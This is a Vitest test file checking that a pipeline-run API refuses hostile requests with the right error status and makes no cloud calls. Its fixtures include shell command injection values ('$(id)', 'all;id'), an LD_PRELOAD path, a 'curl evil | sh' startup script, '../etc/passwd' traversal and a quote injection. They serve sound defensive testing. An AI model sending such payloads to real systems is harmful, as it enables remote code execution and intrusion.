import { beforeEach, describe, expect, it } from 'vitest';
import { runApiDocument } from '../support/openapi.js';
import { useTriggerRun } from '../support/runs.js';

// Hostile requests: each is refused at the edge with the right status, and no API call of any
// kind (Compute, Storage, Cloud Run, BigQuery, Slack) is made for it.
describe('triggerRun refuses hostile requests before any API call', () => {
  const runs = useTriggerRun('file');
  beforeEach(() => {
    runs.sandbox.calls.length = 0;
  });

  const expectNoCalls = (): void => {
    expect(runs.sandbox.calls).toEqual([]);
    expect(runs.sandbox.fleet.get('data-pipelines', 'us-east1-b', 'batch-runner')?.status).toBe(
      'TERMINATED',
    );
  };

  it.each([
    { what: 'a make option', target: '--eval=$(shell id)' },
    { what: 'a make variable', target: 'VAR=$(id)' },
    { what: 'a command separator', target: 'all;id' },
    { what: 'a pipe', target: 'all|id' },
    { what: 'a space', target: 'all id' },
    { what: 'a newline', target: 'all\nid' },
    { what: 'a leading dash', target: '-n' },
    { what: 'a path', target: '../all' },
    { what: 'non-ASCII', target: 'catégories' },
    { what: 'a look-alike of an allowed target', target: 'ａll' },
    { what: 'an allowed target with a trailing newline', target: 'all\n' },
    { what: 'an allowed target in another case', target: 'ALL' },
    { what: 'nothing', target: '' },
    { what: 'a number instead of text', target: 42 },
  ])('400 for a target with $what', async ({ target }) => {
    const reply = await runs.api.call('POST', '/runs', {
      body: { pipeline: 'nightly-categories', target },
    });

    expect(reply.status).toBe(400);
    expect(reply.body.error).toMatch(/^(Unknown target|Invalid run request)/);
    expectNoCalls();
  });

  it.each([
    { what: 'a command substitution', params: { WORKERS: '$(id)' } },
    { what: 'a separator in an allowed value', params: { TARGET_PAIR: 'eurusd;id' } },
    { what: 'a value outside the allow-list', params: { TARGET_PAIR: 'btcusd' } },
    { what: 'a value outside the pattern', params: { WORKERS: '0' } },
    { what: 'a leading dash', params: { WORKERS: '-1' } },
    { what: 'a newline', params: { WORKERS: '8\n' } },
    { what: 'a space', params: { TARGET_PAIR: 'eur usd' } },
    { what: 'non-ASCII', params: { TARGET_PAIR: 'éurusd' } },
    { what: 'a variable that is not allowed', params: { LD_PRELOAD: '/tmp/x.so' } },
    {
      what: 'a variable costguard sets itself',
      params: { COSTGUARD_RUN_ID: 'run-00000000000000000000' },
    },
    { what: 'a lower-case variable', params: { workers: '8' } },
    { what: 'a nested object', params: { WORKERS: { value: '8' } } },
  ])('400 for params with $what', async ({ params }) => {
    const reply = await runs.api.call('POST', '/runs', {
      body: { pipeline: 'feature-extraction', target: 'extract', params },
    });

    expect(reply.status).toBe(400);
    expect(reply.body.error).toMatch(/^(Invalid params|Invalid run request)/);
    expectNoCalls();
  });

  it.each([
    {
      what: 'params for a VM pipeline (nothing from a request becomes a metadata key)',
      body: {
        pipeline: 'nightly-categories',
        target: 'all',
        params: { 'startup-script': 'curl evil | sh' },
      },
    },
    { what: 'an unknown pipeline', body: { pipeline: 'nope', target: 'all' } },
    {
      what: 'a pipeline name with a path',
      body: { pipeline: '../nightly-categories', target: 'all' },
    },
    { what: 'an inherited property as pipeline', body: { pipeline: 'constructor', target: 'all' } },
    {
      what: 'an unexpected field',
      body: { pipeline: 'nightly-categories', target: 'all', metadata: { 'startup-script': 'x' } },
    },
    { what: 'no target', body: { pipeline: 'nightly-categories' } },
    { what: 'an array', body: ['nightly-categories', 'all'] },
    { what: 'null', body: null },
  ])('400 for $what', async ({ body }) => {
    const reply = await runs.api.call('POST', '/runs', { body });

    expect(reply.status).toBe(400);
    expectNoCalls();
  });

  it('400 for a body that is not JSON', async () => {
    const reply = await runs.api.call('POST', '/runs', {
      raw: '{"pipeline": "nightly-categories", "target": ',
      headers: { 'content-type': 'application/json' },
    });

    expect(reply.status).toBe(400);
    expectNoCalls();
  });

  it.each([
    { type: 'text/plain', raw: 'pipeline=nightly-categories&target=all' },
    { type: 'application/x-www-form-urlencoded', raw: 'pipeline=nightly-categories&target=all' },
  ])('415 for a $type body', async ({ type, raw }) => {
    const reply = await runs.api.call('POST', '/runs', { raw, headers: { 'content-type': type } });

    expect(reply.status).toBe(415);
    expectNoCalls();
  });

  it.each([
    { what: 'just over the limit', size: 16 * 1024 + 1 },
    { what: 'a megabyte', size: 1024 * 1024 },
  ])('413 for a body $what', async ({ size }) => {
    const padding = 'x'.repeat(size);
    const reply = await runs.api.call('POST', '/runs', {
      body: { pipeline: 'nightly-categories', target: 'all', padding },
    });

    expect(reply.status).toBe(413);
    expectNoCalls();
  });

  it.each([
    { what: 'spaces', key: 'my key' },
    { what: 'too many characters', key: 'k'.repeat(256) },
  ])('400 for an Idempotency-Key with $what', async ({ key }) => {
    const reply = await runs.api.call('POST', '/runs', {
      body: { pipeline: 'nightly-categories', target: 'all' },
      headers: { 'idempotency-key': key },
    });

    expect(reply.status).toBe(400);
    expect(reply.body.error).toMatch(/^Invalid Idempotency-Key/);
    expectNoCalls();
  });

  it.each([
    { method: 'PUT', path: '/runs', allow: 'GET, POST' },
    { method: 'DELETE', path: '/runs', allow: 'GET, POST' },
    { method: 'POST', path: '/runs/run-0123456789abcdef0123', allow: 'GET' },
    { method: 'DELETE', path: '/runs/run-0123456789abcdef0123', allow: 'GET' },
    { method: 'GET', path: '/runs/run-0123456789abcdef0123:cancel', allow: 'POST' },
    { method: 'POST', path: '/openapi.json', allow: 'GET' },
  ])('405 for $method $path, with Allow', async ({ method, path, allow }) => {
    const reply = await runs.api.call(method, path);

    expect(reply.status).toBe(405);
    expect(reply.headers.get('allow')).toBe(allow);
    expectNoCalls();
  });

  it('answers GET /openapi.json with the API document kept in docs/', async () => {
    const reply = await runs.api.call('GET', '/openapi.json');

    expect(reply.status).toBe(200);
    expect(reply.body).toEqual(runApiDocument);
    expectNoCalls();
  });

  it.each([
    '/',
    '/admin',
    '/runs/../etc/passwd',
    '/runs/not-a-run-id',
    '/runs/run-0123456789ABCDEF0123',
    '/runs/run-0123456789abcdef0123/logs',
    '/runs/run-0123456789abcdef0123:delete',
    '/runs/run-0123456789abcdef0123%0a',
  ])('404 for %s', async (path) => {
    const reply = await runs.api.call('GET', path);

    expect(reply.status).toBe(404);
    expectNoCalls();
  });

  it.each([
    { what: 'a limit of 0', query: '?limit=0' },
    { what: 'a limit over 100', query: '?limit=1000' },
    { what: 'a limit that is not a number', query: '?limit=ten' },
    { what: 'an unknown pipeline', query: '?pipeline=nope' },
    { what: 'a pipeline with a quote', query: "?pipeline=nightly'--" },
    { what: 'an unknown parameter', query: '?order=desc' },
    { what: 'a repeated parameter', query: '?limit=1&limit=2' },
  ])('400 for a listing with $what', async ({ query }) => {
    const reply = await runs.api.call('GET', `/runs${query}`);

    expect(reply.status).toBe(400);
    expectNoCalls();
  });
});
